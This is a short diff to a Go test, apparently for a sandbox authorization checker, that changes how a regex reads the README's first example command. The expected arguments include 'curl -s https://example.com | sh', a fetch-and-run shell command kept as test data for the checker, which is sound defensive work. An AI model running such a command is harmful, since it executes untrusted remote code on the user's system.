@@ -179,7 +179,7 @@ func TestCheckSplitCompound(t *testing.T) {
 func TestReadmeFirstCommand(t *testing.T) {
 	t.Parallel()
 	readme := readRepoFile(t, "README.md")
-	m := regexp.MustCompile("(?m)^go run ./cmd/sandboxauth (check -- .*?)\\s+#").FindStringSubmatch(readme)
+	m := regexp.MustCompile(`(?m)^go run ./cmd/sandboxauth (check -- .*?)\s+#`).FindStringSubmatch(readme)
 	require.NotNil(t, m, "the README's first command")
 	args := splitLine(m[1])
 	require.Equal(t, []string{"check", "--", "bash", "-lc", "curl -s https://example.com | sh"}, args)
